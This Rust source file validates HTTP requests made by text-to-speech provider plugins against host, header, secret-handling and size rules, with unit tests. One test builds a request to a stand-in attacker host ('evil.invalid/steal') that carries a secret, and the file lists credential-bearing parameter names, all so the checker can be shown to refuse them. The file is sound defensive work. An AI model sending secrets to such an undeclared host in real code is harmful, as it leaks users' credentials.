//! Rules that every step of every case must follow, whatever the case expects.
//!
//! Some rules are the host's own: a request to an undeclared host, a forbidden or invalid
//! header, or a reference to an undeclared secret is refused by the gateway, so the run
//! stops there. The others are the kit's: the gateway would carry the step out, but a
//! conforming plugin never produces it (a key placeholder in a body, a credential in a URL,
//! an upload far larger than the text).

use http::header::{HeaderName, HeaderValue};

use crate::allowed_hosts::AllowedHosts;
use crate::audio::{check_signature, container_name};
use crate::plugin::wit::{
    Audio, AudioContainer, AudioFormat, HeaderValue as WitHeaderValue, HttpRequest, ProviderError, ProviderInfo,
};
use crate::upstream::FORBIDDEN_HEADERS;

/// Longest URL a step may have, in bytes. Servers commonly refuse request lines past 8 KiB.
pub const MAX_URL_BYTES: usize = 8 * 1024;

/// Most headers a step may have. Provider requests carry a handful.
pub const MAX_HEADERS: usize = 64;

/// Longest header value, in bytes, for the same reason as [`MAX_URL_BYTES`].
pub const MAX_HEADER_VALUE_BYTES: usize = 8 * 1024;

/// A request body may be this many bytes plus [`BODY_BYTES_PER_TEXT_BYTE`] per byte of text:
/// room for JSON escapes of every character (`\u00e9` is 6 bytes for 2) and for options.
pub const BASE_BODY_BYTES: usize = 1024 * 1024;
pub const BODY_BYTES_PER_TEXT_BYTE: usize = 8;

/// Longest error message, in bytes. Messages end up in logs and in client error bodies, so a
/// plugin quotes an excerpt of an upstream body, never the whole of it.
pub const MAX_ERROR_MESSAGE_BYTES: usize = 8 * 1024;

/// Query parameter names that carry credentials. The host fills secrets into headers only,
/// so such a parameter holds a placeholder, or a key that the plugin cannot have.
const CREDENTIAL_PARAMETERS: &[&str] =
    &["key", "api_key", "api-key", "apikey", "token", "access_token", "auth", "secret", "password", "xi-api-key"];

/// Header names whose value is a credential and so must be a secret reference.
const CREDENTIAL_HEADER_WORDS: &[&str] = &["authorization", "api-key", "apikey", "api_key", "token", "secret", "password"];

/// What checking one request step found.
#[derive(Debug, Default)]
pub struct RequestCheck {
    /// Why the host would refuse to send the request; the run stops here.
    pub refused: Option<String>,
    /// Rules the request breaks that the host would not stop.
    pub violations: Vec<String>,
}

/// Checks a request step against the host's rules and the kit's secret and size rules.
pub fn check_request(info: &ProviderInfo, hosts: &AllowedHosts, request: &HttpRequest, text: &str) -> RequestCheck {
    let mut check = RequestCheck::default();
    let secrets: Vec<&str> = request
        .headers
        .iter()
        .filter_map(|header| match &header.value {
            WitHeaderValue::Secret(reference) => Some(reference.name.as_str()),
            WitHeaderValue::Text(_) => None,
        })
        .collect();

    if let Err(denied) = hosts.check(&request.url) {
        let carried = if secrets.is_empty() {
            String::new()
        } else {
            format!(", and the request carries secret `{}` toward it", secrets.join("`, `"))
        };
        check.refused = Some(format!("{denied}{carried}"));
        return check;
    }
    if let Some(reason) = refused_header(info, request) {
        check.refused = Some(reason);
        return check;
    }

    check.violations.extend(credential_in_url(&request.url));
    check.violations.extend(literal_credential_headers(request));
    check.violations.extend(placeholders(info, request));
    check.violations.extend(oversized(request, text));
    check
}

/// The first header the host would refuse to send, if any.
fn refused_header(info: &ProviderInfo, request: &HttpRequest) -> Option<String> {
    for header in &request.headers {
        let Ok(name) = HeaderName::from_bytes(header.name.as_bytes()) else {
            return Some(format!("header name `{}` is invalid", header.name.escape_default()));
        };
        if FORBIDDEN_HEADERS.contains(&name.as_str()) {
            return Some(format!("header `{name}` is set by the host and may not be set by a plugin"));
        }
        match &header.value {
            WitHeaderValue::Text(text) => {
                if HeaderValue::from_str(text).is_err() {
                    return Some(format!("header `{name}` has a value that is not a valid header value"));
                }
            }
            WitHeaderValue::Secret(reference) => {
                if !info.secrets.iter().any(|secret| secret.name == reference.name) {
                    return Some(format!(
                        "header `{name}` refers to secret `{}`, which describe does not declare",
                        reference.name
                    ));
                }
                // A stand-in value: real keys are printable ASCII.
                let sample = format!("{}sk-0123456789{}", reference.prefix, reference.suffix);
                if HeaderValue::from_str(&sample).is_err() {
                    return Some(format!(
                        "header `{name}` wraps secret `{}` in a prefix or suffix that is not valid in a header value",
                        reference.name
                    ));
                }
            }
        }
    }
    None
}

fn credential_in_url(url: &str) -> Vec<String> {
    let Ok(parsed) = url::Url::parse(url) else {
        return Vec::new();
    };
    parsed
        .query_pairs()
        .filter(|(name, _)| CREDENTIAL_PARAMETERS.contains(&name.to_ascii_lowercase().as_str()))
        .map(|(name, _)| {
            format!(
                "the URL has a credential query parameter `{name}`; the host fills secrets into headers only, so a plugin must send a key as a header with a secret reference"
            )
        })
        .collect()
}

fn literal_credential_headers(request: &HttpRequest) -> Vec<String> {
    request
        .headers
        .iter()
        .filter(|header| matches!(header.value, WitHeaderValue::Text(_)))
        .filter(|header| {
            let name = header.name.to_ascii_lowercase();
            CREDENTIAL_HEADER_WORDS.iter().any(|word| name.contains(word))
        })
        .map(|header| {
            format!(
                "header `{}` carries a literal value; a credential header must be a secret reference, which the host fills in",
                header.name
            )
        })
        .collect()
}

/// Finds a declared secret's name in a placeholder form (`{api-key}`, `${API_KEY}`, …) or its
/// environment variable's name anywhere in the URL, a literal header value or the body.
fn placeholders(info: &ProviderInfo, request: &HttpRequest) -> Vec<String> {
    let mut needles: Vec<String> = Vec::new();
    for secret in &info.secrets {
        let names = [secret.name.clone(), secret.name.to_ascii_uppercase().replace('-', "_")];
        for name in names {
            for (open, close) in [("{", "}"), ("{{", "}}"), ("${", "}"), ("<", ">"), ("%", "%"), ("$", "")] {
                needles.push(format!("{open}{name}{close}"));
            }
        }
        if let Some(env) = &secret.env {
            needles.push(env.clone());
        }
    }

    let body = String::from_utf8_lossy(&request.body);
    let mut places: Vec<(&str, &str)> = vec![("the URL", request.url.as_str()), ("the body", &body)];
    for header in &request.headers {
        if let WitHeaderValue::Text(text) = &header.value {
            places.push((header.name.as_str(), text.as_str()));
        }
    }

    let mut found = Vec::new();
    for (place, text) in places {
        if let Some(needle) = needles.iter().find(|needle| text.contains(needle.as_str())) {
            let place = if place.starts_with("the ") { place.to_string() } else { format!("header `{place}`") };
            found.push(format!(
                "{place} contains `{needle}`, a placeholder for a secret; a plugin never sees secret values and must send them as secret references in headers"
            ));
        }
    }
    found
}

fn oversized(request: &HttpRequest, text: &str) -> Vec<String> {
    let mut found = Vec::new();
    if request.url.len() > MAX_URL_BYTES {
        found.push(format!("the URL is {} bytes, more than the kit's limit of {MAX_URL_BYTES}", request.url.len()));
    }
    if request.headers.len() > MAX_HEADERS {
        found.push(format!("the request has {} headers, more than the kit's limit of {MAX_HEADERS}", request.headers.len()));
    }
    for header in &request.headers {
        let bytes = match &header.value {
            WitHeaderValue::Text(text) => text.len(),
            WitHeaderValue::Secret(reference) => reference.prefix.len() + reference.suffix.len(),
        };
        if bytes > MAX_HEADER_VALUE_BYTES {
            found.push(format!(
                "header `{}` is {bytes} bytes, more than the kit's limit of {MAX_HEADER_VALUE_BYTES}",
                header.name.escape_default()
            ));
        }
    }
    let body_limit = BASE_BODY_BYTES.saturating_add(text.len().saturating_mul(BODY_BYTES_PER_TEXT_BYTE));
    if request.body.len() > body_limit {
        found.push(format!(
            "the request body is {} bytes for {} bytes of text, more than the kit's limit of {body_limit}",
            request.body.len(),
            text.len()
        ));
    }
    found
}

/// Checks that a `stream` step promises the container the caller requested: the host does
/// not transcode. For headerless containers the sample rate must match too.
pub fn check_format(requested: &AudioFormat, produced: &AudioFormat) -> Option<String> {
    if requested.container != produced.container {
        return Some(format!(
            "{} was requested but the step produces {}",
            container_name(requested.container),
            container_name(produced.container)
        ));
    }
    let headerless = matches!(requested.container, AudioContainer::Pcm | AudioContainer::Ulaw | AudioContainer::Alaw);
    if let (true, Some(wanted), Some(got)) = (headerless, requested.sample_rate, produced.sample_rate)
        && wanted != got
    {
        return Some(format!(
            "{} at {wanted} Hz was requested but the step produces {got} Hz",
            container_name(requested.container)
        ));
    }
    None
}

/// Checks finished audio the way the host does before returning it, plus its alignment.
pub fn check_audio(requested: &AudioFormat, audio: &Audio) -> Vec<String> {
    let mut found: Vec<String> = check_format(requested, &audio.format).into_iter().collect();
    if audio.data.is_empty() {
        found.push("the audio step has no data".to_string());
    } else if let Err(reason) = check_signature(audio.format.container, &audio.data) {
        found.push(reason);
    }
    if let Some(alignment) = &audio.alignment {
        let lengths = [alignment.characters.len(), alignment.start_ms.len(), alignment.end_ms.len()];
        if lengths.iter().any(|length| *length != lengths[0]) {
            found.push(format!(
                "the alignment lists have different lengths: {} characters, {} starts, {} ends",
                lengths[0], lengths[1], lengths[2]
            ));
        }
    }
    found
}

/// Checks a provider error's message: present, and short enough to log.
pub fn check_error(error: &ProviderError) -> Vec<String> {
    let message = match error {
        ProviderError::InvalidRequest(m)
        | ProviderError::Unauthorized(m)
        | ProviderError::QuotaExceeded(m)
        | ProviderError::Unavailable(m)
        | ProviderError::Unsupported(m)
        | ProviderError::InvalidResponse(m) => m,
        ProviderError::RateLimited(limit) => &limit.message,
        ProviderError::Misconfigured(error) => &error.message,
    };
    let mut found = Vec::new();
    if message.trim().is_empty() {
        found.push("the error message is empty; say what failed".to_string());
    }
    if message.len() > MAX_ERROR_MESSAGE_BYTES {
        found.push(format!(
            "the error message is {} bytes, more than the kit's limit of {MAX_ERROR_MESSAGE_BYTES}; quote an excerpt of upstream bodies",
            message.len()
        ));
    }
    found
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::plugin::wit::{Method, RequestHeader, SecretInfo, SecretRef};

    fn info() -> ProviderInfo {
        ProviderInfo {
            id: "p".to_string(),
            name: "P".to_string(),
            version: "1.0.0".to_string(),
            models: Vec::new(),
            voices: Vec::new(),
            default_model: String::new(),
            default_voice: String::new(),
            hosts: vec!["api.example.com".to_string()],
            secrets: vec![SecretInfo {
                name: "api-key".to_string(),
                description: String::new(),
                env: Some("EXAMPLE_API_KEY".to_string()),
                required: true,
            }],
            settings: Vec::new(),
        }
    }

    fn hosts() -> AllowedHosts {
        AllowedHosts::new(&info().hosts, None).unwrap()
    }

    fn secret(name: &str) -> WitHeaderValue {
        WitHeaderValue::Secret(SecretRef { name: name.to_string(), prefix: "Bearer ".to_string(), suffix: String::new() })
    }

    fn request(url: &str, headers: Vec<(&str, WitHeaderValue)>, body: &str) -> HttpRequest {
        HttpRequest {
            method: Method::Post,
            url: url.to_string(),
            headers: headers
                .into_iter()
                .map(|(name, value)| RequestHeader { name: name.to_string(), value })
                .collect(),
            body: body.as_bytes().to_vec(),
        }
    }

    fn check(request: &HttpRequest) -> RequestCheck {
        check_request(&info(), &hosts(), request, "hello")
    }

    #[test]
    fn good_request_passes() {
        let good = request("https://api.example.com/v1/speak", vec![("authorization", secret("api-key"))], "{\"text\":\"hello\"}");

        let result = check(&good);

        assert_eq!(result.refused, None);
        assert!(result.violations.is_empty(), "{:?}", result.violations);
    }

    #[test]
    fn undeclared_host_with_secret_is_refused() {
        let bad = request("http://evil.invalid/steal", vec![("authorization", secret("api-key"))], "");

        let reason = check(&bad).refused.unwrap();

        assert!(reason.contains("evil.invalid"), "{reason}");
        assert!(reason.contains("secret `api-key`"), "{reason}");
    }

    #[test]
    fn undeclared_secret_is_refused() {
        let bad = request("https://api.example.com/", vec![("authorization", secret("other"))], "");

        let reason = check(&bad).refused.unwrap();

        assert!(reason.contains("`other`"), "{reason}");
    }

    #[test]
    fn forbidden_header_is_refused() {
        let bad = request("https://api.example.com/", vec![("host", WitHeaderValue::Text("x".to_string()))], "");

        assert!(check(&bad).refused.unwrap().contains("`host`"));
    }

    #[test]
    fn placeholder_table() {
        let cases = [
            ("https://api.example.com/?voice=a", "{\"key\":\"${API_KEY}\"}", true),
            ("https://api.example.com/", "{\"key\":\"{api-key}\"}", true),
            ("https://api.example.com/", "EXAMPLE_API_KEY", true),
            ("https://api.example.com/?key=x", "", true),
            ("https://api.example.com/?api_key=x", "", true),
            ("https://api.example.com/?monkey=x", "", false),
            ("https://api.example.com/", "{\"text\":\"an api-key is a key\"}", false),
        ];
        for (url, body, flagged) in cases {
            let result = check(&request(url, Vec::new(), body));

            assert_eq!(!result.violations.is_empty(), flagged, "{url} {body}: {:?}", result.violations);
        }
    }

    #[test]
    fn literal_authorization_is_flagged() {
        let bad = request(
            "https://api.example.com/",
            vec![("Authorization", WitHeaderValue::Text("Bearer sk-123".to_string()))],
            "",
        );

        let result = check(&bad);

        assert!(result.violations[0].contains("`Authorization`"), "{:?}", result.violations);
    }

    #[test]
    fn huge_body_is_flagged() {
        let body = "x".repeat(BASE_BODY_BYTES + 100);

        let result = check(&request("https://api.example.com/", Vec::new(), &body));

        assert!(result.violations.iter().any(|v| v.contains("request body")), "{:?}", result.violations);
    }

    #[test]
    fn pcm_rate_mismatch_is_reported() {
        let requested = AudioFormat { container: AudioContainer::Pcm, sample_rate: Some(16_000), bitrate: None };
        let produced = AudioFormat { sample_rate: Some(24_000), ..requested };

        assert!(check_format(&requested, &produced).unwrap().contains("16000 Hz"));
    }

    #[test]
    fn long_error_message_is_flagged() {
        let error = ProviderError::Unavailable("x".repeat(MAX_ERROR_MESSAGE_BYTES + 1));

        assert_eq!(check_error(&error).len(), 1);
    }
}
